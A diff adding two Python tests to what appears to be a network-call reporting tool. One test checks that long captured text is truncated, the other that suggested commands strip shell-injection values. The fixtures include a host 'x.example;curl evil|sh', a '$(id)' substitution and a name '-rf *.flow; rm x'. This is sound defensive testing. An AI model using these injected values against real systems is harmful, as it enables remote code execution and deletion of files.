@@ -392,3 +392,21 @@ def test_every_host_that_may_be_the_user_s_own_is_asked_about() -> None:
     asks = Evidence(asks=frozenset({"b.example", "a.example"}))
     said = first_screen(result(evidence=asks))[-2:]
     assert [sentence.partition(" yours")[0] for sentence in said] == ["Is a.example", "Is b.example"]
+
+
+def test_captured_text_of_any_length_is_cut_and_our_own_is_not() -> None:
+    calls = [call(exchange("a" * 10_000 + ".example", "/" + "p" * 10_000), party=Party.UNKNOWN, entity="")]
+    compared = [comparison("client.id", Verdict.UNDECLARED, entity="b" * 10_000, reason="why " * 500)]
+    found = result(calls, [finding(0, "client.id", "v" * 10_000)], compared)
+    for shown in (private(found), lists.calls_of(found), lists.items_of(found)):
+        assert not re.search(r"[abpv]{501}", markdown.render(shown))
+    assert "why " * 499 in markdown.render(private(found))
+
+
+def test_a_command_to_type_holds_no_character_that_a_shell_understands() -> None:
+    found = result(evidence=Evidence(asks=frozenset({"x.example;curl evil|sh", "--help", "$(id).example"})))
+    info = replace(found.captures[0], name="-rf *.flow; rm x")
+    document = private(replace(found, captures=(info,)))
+    said = [block.text for block in document.blocks if isinstance(block, Paragraph) and "--kind server" in block.text]
+    assert [sentence.rpartition("--kind server ")[2] for sentence in said] == ["HOST", "HOST", "HOST"]
+    assert document.blocks[-1] == Commands(("phonehome items FILE", "phonehome share FILE -o report.md"))
